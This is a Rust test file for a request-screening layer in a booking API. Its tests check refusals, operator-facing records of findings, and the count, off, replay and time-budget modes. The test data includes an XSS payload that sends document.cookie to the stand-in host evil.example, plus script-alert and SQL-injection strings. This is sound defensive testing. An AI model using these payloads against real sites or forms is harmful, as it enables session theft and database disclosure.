//! Screening at the boundary: what is refused, in which words, what it leaves behind, and what an operator sees of it.

mod attacks;
mod cards;
mod commands;
mod exceptions;
mod explain;

use std::sync::Arc;

use http::Method;
use serde_json::{Value, json};
use skybridge_api::screening::{Screening, Signatures, Terms};
use skybridge_screen::{Overrun, Profile, Screen};
use skybridge_store::MemoryStore;

use crate::kit::app::{BEGIN, patient};
use crate::kit::bodies::{example, example_with};
use crate::kit::{Answer, App};

/// A text that no wheelchair needs.
pub(crate) const ATTACK: &str = "<script>document.location='//evil.example/'+document.cookie</script>";

/// Screening by the built-in rules, with these findings' consequence.
pub(crate) fn by(signatures: Signatures) -> Screening {
    patient(Terms { signatures, ..Terms::default() })
}

/// A counter over an empty store that does this with what it finds.
pub(crate) async fn app_that(signatures: Signatures) -> App {
    App::screening(Arc::new(MemoryStore::default()), BEGIN, by(signatures)).await
}

impl App {
    /// What the admin API remembers of findings.
    async fn findings(&self, query: &str) -> Vec<Value> {
        let path = format!("/admin/v1/screening/refusals?{query}");
        let answer = self.admin().get(&path).await.expect(200).json();
        answer["refusals"].as_array().unwrap().clone()
    }
}

fn text(answer: &Answer) -> String {
    String::from_utf8(answer.body.clone()).unwrap()
}

#[tokio::test]
async fn a_refusal_names_the_fields_and_not_the_rule() {
    let app = App::new().await;
    let agency = app.agency("PartnerCo").await;
    let mut body = example_with("remarks", json!(ATTACK));
    body["contact"]["email"] = json!("ops@partner.example");
    let refused = agency.book("k", &body).await.expect_refusal(403, "screened");
    assert_eq!(refused.pointers(), ["/remarks"]);
    let found = &app.findings("").await[0];
    let rule = found["findings"][0]["rule"].as_str().unwrap();
    for told in [rule, found["findings"][0]["family"].as_str().unwrap(), "script", "evil"] {
        assert!(!text(&refused).contains(told), "{told} is told: {}", text(&refused));
    }
    assert!(text(&refused).contains("quote this request's id"));
    // Nothing was stored and the key is not bound.
    assert_eq!(app.stored_bookings().await, 0);
    agency.book("k", &example()).await.expect(201);
}

#[tokio::test]
async fn the_operator_sees_who_what_and_where_but_never_the_text() {
    let app = App::new().await;
    let agency = app.agency("PartnerCo").await;
    let body = example_with("remarks", json!(format!("Quicksilverbird {ATTACK}")));
    let refused = agency.book("k", &body).await.expect_refusal(403, "screened");
    agency.book("k2", &example()).await.expect(201);
    let found = app.findings("").await;
    assert_eq!(found.len(), 1, "what passes is not remembered: {found:?}");
    let [found] = &found[..] else { unreachable!() };
    assert_eq!(found["agency"], "PartnerCo");
    assert_eq!(found["request_id"], refused.header("x-request-id"));
    assert_eq!(found["key_id"], agency.credential()[9..21]);
    assert_eq!((&found["code"], &found["findings"][0]["place"]), (&json!("screened"), &json!("/remarks")));
    assert_eq!(found["findings"][0]["mode"], "block");
    assert!(!found["findings"][0]["excerpt"].as_str().unwrap().is_empty());
    for word in ["Quicksilver", "evil", "cookie"] {
        assert!(!found.to_string().contains(word), "{word}: {found}");
    }
    let of_request = format!("request_id={}", refused.header("x-request-id"));
    assert_eq!(app.findings(&of_request).await.len(), 1);
    assert_eq!(app.findings("request_id=none").await.len(), 0);
    assert_eq!(app.findings("agency=PartnerCo&limit=1").await.len(), 1);
    app.admin().get("/admin/v1/screening/refusals?limit=0").await.expect_refusal(400, "malformed-request");
    app.intruder(None).get("/admin/v1/screening/refusals").await.expect_refusal(401, "admin-token-missing");
}

#[tokio::test]
async fn every_operation_that_takes_a_text_is_screened() {
    let app = App::new().await;
    let agency = app.agency("PartnerCo").await;
    let attack = example_with("remarks", json!(ATTACK));
    agency.post("/booking", &attack).await.expect_refusal(403, "screened");
    agency.book("k", &attack).await.expect_refusal(403, "screened");
    let refused = agency.book(ATTACK, &example()).await.expect_refusal(403, "screened");
    assert!(text(&refused).contains("the header Idempotency-Key"), "{}", text(&refused));
    assert!(refused.json()["errors"].is_null());
    let request = agency.request(Method::GET, "/v1/bookings?cursor=%3Cscript%3Ealert(1)%3C/script%3E");
    let refused = agency.send(request.body(axum::body::Body::empty()).unwrap()).await;
    assert!(text(&refused.expect_refusal(403, "screened")).contains("the query's cursor"));
    assert_eq!(app.stored_bookings().await, 0);
    let places: Vec<_> =
        app.findings("").await.iter().map(|one| one["findings"][0]["place"].clone()).collect();
    assert_eq!(places, ["cursor", "Idempotency-Key", "/remarks", "/remarks"]);
}

#[tokio::test]
async fn counting_refuses_nobody_and_shows_all_the_same() {
    let app = app_that(Signatures::Count).await;
    let agency = app.agency("PartnerCo").await;
    let made = agency.book("k", &example_with("remarks", json!(ATTACK))).await.expect(201);
    assert_eq!(made.json()["remarks"], ATTACK);
    assert!(app.findings("").await.is_empty(), "nobody was refused");
    let counted = app.findings("counted=true").await;
    assert_eq!((&counted[0]["code"], &counted[0]["findings"][0]["mode"]), (&Value::Null, &json!("count")));
    assert_eq!(counted[0]["request_id"], made.header("x-request-id"));
}

#[tokio::test]
async fn switched_off_no_text_is_looked_at() {
    let app = app_that(Signatures::Off).await;
    let agency = app.agency("PartnerCo").await;
    agency.book("k", &example_with("remarks", json!(ATTACK))).await.expect(201);
    assert!(app.findings("counted=true").await.is_empty());
}

#[tokio::test]
async fn a_booking_that_was_taken_before_is_replayed_whatever_the_rules_say_now() {
    let store: Arc<MemoryStore> = Arc::default();
    let lax = App::screening(Arc::clone(&store) as _, BEGIN, by(Signatures::Off)).await;
    let agency = lax.agency("PartnerCo").await;
    let body = example_with("remarks", json!(ATTACK));
    let made = agency.book("k", &body).await.expect(201);
    let lesson = agency.request(Method::POST, "/booking").header("idempotency-key", "l");
    let lesson = agency.send(lesson.body(body.to_string().into()).unwrap()).await.expect(201);
    let key = agency.credential().to_owned();

    let strict = App::screening(store, BEGIN, by(Signatures::Block)).await;
    let agency = strict.with_key(&key);
    let again = agency.book("k", &body).await.expect(201);
    assert_eq!((&again.body, again.header("idempotent-replayed")), (&made.body, "true"));
    let request = agency.request(Method::POST, "/booking").header("idempotency-key", "l");
    let again = agency.send(request.body(body.to_string().into()).unwrap()).await.expect(201);
    assert_eq!((&again.body, again.header("idempotent-replayed")), (&lesson.body, "true"));
    // Another key, another request under the key, another operation: those are new.
    agency.book("k2", &body).await.expect_refusal(403, "screened");
    let other = example_with("remarks", json!(format!("{ATTACK}!")));
    agency.book("k", &other).await.expect_refusal(403, "screened");
    agency.book("l", &body).await.expect_refusal(403, "screened");
    assert_eq!(strict.stored_bookings().await, 2);
}

#[tokio::test]
async fn the_operator_words_what_a_refused_caller_is_told() {
    let advice = "Write to desk@airline.example and quote this request's id.";
    let screening = patient(Terms { advice: Some(advice.to_owned()), ..Terms::default() });
    let app = App::screening(Arc::new(MemoryStore::default()), BEGIN, screening).await;
    let agency = app.agency("PartnerCo").await;
    let refused =
        agency.book("k", &example_with("remarks", json!(ATTACK))).await.expect_refusal(403, "screened");
    assert!(refused.json()["detail"].as_str().unwrap().ends_with(advice));
}

#[tokio::test]
async fn what_only_counts_does_not_crowd_out_what_refuses() {
    let profile =
        "[fields]\ngiven_name = \"count\"\nfamily_name = \"count\"\n[budget]\ntime_us = 3600000000\n";
    let screening = Screening::new(Screen::new(Profile::parse(profile).unwrap(), None), Terms::default());
    let app = App::screening(Arc::new(MemoryStore::default()), BEGIN, screening).await;
    let agency = app.agency("PartnerCo").await;
    let name = "x' UNION SELECT password FROM users --";
    let passenger = json!({ "type": "ADT", "given_name": name, "family_name": name });
    let body = json!({ "passengers": vec![passenger; 9], "remarks": ATTACK });
    let refused = agency.book("k", &body).await.expect_refusal(403, "screened");
    assert_eq!(refused.pointers(), ["/remarks"]);
    assert!(text(&refused).contains("What stands in /remarks looks like"), "{}", text(&refused));
    let findings = app.findings("").await[0]["findings"].as_array().unwrap().clone();
    assert_eq!((&findings[0]["place"], &findings[0]["mode"]), (&json!("/remarks"), &json!("block")));
    assert!(findings.iter().any(|one| one["mode"] == "count"), "{findings:?}");
}

#[tokio::test]
async fn a_budget_that_ends_refuses_or_counts_as_chosen() {
    for (overrun, status) in [(Overrun::Refuse, 503), (Overrun::Count, 201)] {
        let mut profile = Profile::default();
        (profile.budget.bytes, profile.overrun) = (40, overrun);
        profile.budget.time = std::time::Duration::from_secs(3600);
        let screening = Screening::new(Screen::new(profile, None), Terms::default());
        let app = App::screening(Arc::new(MemoryStore::default()), BEGIN, screening).await;
        let agency = app.agency("PartnerCo").await;
        let answer = agency.book("k", &example()).await;
        assert_eq!(answer.status.as_u16(), status);
        if status == 503 {
            let refused = answer.expect_refusal(503, "overloaded");
            assert_eq!(refused.header("retry-after"), "1");
            assert_eq!(app.stored_bookings().await, 0);
        }
        // What was found before the budget ended counts all the same.
        let found = agency.book("k2", &json!({ "remarks": "<script>alert(1)</script>" })).await;
        found.expect_refusal(403, "screened");
    }
}

#[tokio::test]
async fn every_answer_says_that_it_is_what_it_says() {
    let app = App::new().await;
    let agency = app.agency("PartnerCo").await;
    let made = agency.book("k", &example()).await.expect(201);
    let shown = agency.get(&format!("/v1/bookings/{}", made.booking_id())).await.expect(200);
    let refused = agency.book("k2", &json!({ "x": 1 })).await;
    let page = app.anonymous().get("/errors/screened").await.expect(200);
    let admin = app.admin().get("/admin/v1/bookings").await.expect(200);
    for answer in [made, shown, refused, page, admin] {
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{answer:?}");
    }
}

/// The examples that operators copy.
#[test]
fn the_profiles_in_the_documentation_are_profiles() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/screening.md");
    let page = std::fs::read_to_string(path).unwrap();
    let profiles: Vec<&str> =
        page.split("```toml\n").skip(1).map(|rest| rest.split("```").next().unwrap()).collect();
    assert!(!profiles.is_empty());
    for profile in profiles {
        Profile::parse(profile).unwrap_or_else(|error| panic!("{error}:\n{profile}"));
    }
}
